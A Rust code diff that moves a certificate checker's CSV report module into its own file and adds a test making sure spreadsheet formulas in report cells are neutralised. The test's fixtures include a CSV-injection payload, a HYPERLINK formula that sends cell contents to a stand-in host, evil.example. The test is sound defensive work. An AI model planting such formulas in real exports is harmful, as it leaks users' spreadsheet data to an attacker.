@@ -441,69 +441,7 @@ fn check_item<S: Source>(
 
 /// Reading a list from CSV and writing a report as CSV (feature `csv`).
 #[cfg(feature = "csv")]
-pub mod csv_format {
-    use super::ItemReport;
-
-    /// The report's CSV columns.
-    pub const HEADER: [&str; 7] = ["index", "input", "outcome", "verdict", "certificate_id", "problem", "reason"];
-
-    /// Why a CSV list cannot be read.
-    #[derive(Debug, thiserror::Error)]
-    pub enum CsvError {
-        /// Not CSV (a quote not closed, not UTF-8…), with the line.
-        #[error("line {line}: {message}")]
-        Syntax {
-            /// The line (from 1).
-            line: u64,
-            /// What the CSV reader said.
-            message: String,
-        },
-    }
-
-    /// The items of a CSV list: the first field of each record, blank records skipped, a
-    /// first record `item` (any case) taken as a header.
-    pub fn read_items(text: &[u8]) -> Result<Vec<String>, CsvError> {
-        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text);
-        let mut items = Vec::new();
-        for (n, record) in reader.records().enumerate() {
-            let record = record.map_err(|e| CsvError::Syntax {
-                line: e.position().map_or(0, csv::Position::line),
-                message: e.to_string(),
-            })?;
-            let first = record.get(0).unwrap_or("").trim();
-            if n == 0 && first.eq_ignore_ascii_case("item") {
-                continue;
-            }
-            if record.iter().all(|f| f.trim().is_empty()) {
-                continue;
-            }
-            items.push(first.to_owned());
-        }
-        Ok(items)
-    }
-
-    /// The report's items as CSV ([`HEADER`] first).
-    pub fn write_report(items: &[ItemReport]) -> Vec<u8> {
-        let mut writer = csv::Writer::from_writer(Vec::new());
-        let mut rows = vec![HEADER.map(str::to_owned).to_vec()];
-        for i in items {
-            rows.push(vec![
-                i.index.to_string(),
-                i.input.clone(),
-                i.outcome.as_str().to_owned(),
-                i.verdict.map(|v| v.as_str().to_owned()).unwrap_or_default(),
-                i.certificate_id.clone().unwrap_or_default(),
-                i.problem.map(|p| p.as_str().to_owned()).unwrap_or_default(),
-                i.reason.clone(),
-            ]);
-        }
-        for row in rows {
-            // Writing to memory fails only if the row is malformed, which these are not.
-            let _ = writer.write_record(&row);
-        }
-        writer.into_inner().unwrap_or_default()
-    }
-}
+pub mod csv_format;
 
 #[cfg(test)]
 mod tests {
@@ -576,6 +514,77 @@ mod tests {
         assert!(err.starts_with("line 2:"), "{err}");
         let out = csv_format::write_report(&[ItemReport::malformed(0, "x,y", &ItemError::Empty)]);
         let text = String::from_utf8(out).expect("utf-8");
-        assert_eq!(text, "index,input,outcome,verdict,certificate_id,problem,reason\n0,\"x,y\",error,,,malformed,the item is empty\n");
+        assert_eq!(
+            text,
+            "\"index\",\"input\",\"outcome\",\"verdict\",\"certificate_id\",\"problem\",\"reason\"\n\
+             \"0\",\"x,y\",\"error\",\"\",\"\",\"malformed\",\"the item is empty\"\n"
+        );
+    }
+
+    /// CSV injection (issue 71): an item that a spreadsheet would run as a formula comes
+    /// back in the CSV report as text — every cell that starts with `=`, `+`, `-`, `@`, TAB
+    /// or CR (or has one after a character a spreadsheet may split cells on) gets a `'`
+    /// before it, every cell is quoted — while the JSON report keeps the item as given.
+    #[cfg(feature = "csv")]
+    #[test]
+    fn csv_report_cells_are_never_formulas() {
+        let formulas = [
+            (
+                "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Verify\")",
+                "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Verify\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1+1", "'\t'=1+1"),
+            ("\r=1+1", "'\r'=1+1"),
+            ("NT-A;=1+1", "NT-A;'=1+1"),
+            ("NT-A,@cmd", "NT-A,'@cmd"),
+            ("NT-A\t-1", "NT-A\t'-1"),
+            ("NT-A\n=1+1", "NT-A\n'=1+1"),
+        ];
+        let mut all: Vec<ItemReport> = formulas
+            .iter()
+            .enumerate()
+            .map(|(i, (text, _))| ItemReport::malformed(i, text, &ItemError::Unrecognised))
+            .collect();
+        all.push(ItemReport::resolved(
+            10,
+            "NT-B",
+            Some("NT-B"),
+            Verdict::Revoked,
+            None,
+            "=1+1 (the certifier's words)",
+        ));
+        let out = csv_format::write_report(&all);
+        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&out[..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV")).collect();
+        assert_eq!(rows.len(), all.len());
+        for (row, (given, written)) in rows.iter().zip(formulas) {
+            assert_eq!(row.get(1), Some(written), "{given:?}");
+        }
+        assert_eq!(rows[10].get(6), Some("'=1+1 (the certifier's words)"));
+        for row in &rows {
+            for cell in row {
+                let mut starts = vec![cell];
+                starts.extend(cell.split([',', ';', '\t', '\r', '\n']).skip(1));
+                for start in starts {
+                    assert!(
+                        !start.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "a formula cell: {cell:?} in {row:?}"
+                    );
+                }
+            }
+        }
+        let text = String::from_utf8(out).expect("UTF-8");
+        assert!(
+            text.ends_with(
+                "\"10\",\"NT-B\",\"not_valid\",\"REVOKED\",\"NT-B\",\"revoked\",\"'=1+1 (the certifier's words)\"\n"
+            ),
+            "every cell quoted: {text}"
+        );
+        // The JSON report says what was given.
+        let json = serde_json::to_value(&all[0]).expect("json");
+        assert_eq!(json["input"], formulas[0].0);
     }
 }
